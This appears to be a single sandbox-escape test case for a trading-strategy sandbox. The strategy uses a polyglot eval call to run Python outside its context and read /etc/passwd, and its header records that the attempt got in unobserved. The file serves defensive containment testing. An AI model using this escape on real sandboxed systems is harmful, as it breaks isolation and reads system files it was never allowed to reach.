# id: J05
# family: interop
# goal: evaluate text in a language of the engine outside of the strategy's context
# finding: PY306
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    import polyglot

    return polyglot.eval(language="python", string="open('/etc/passwd').read(20)")


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
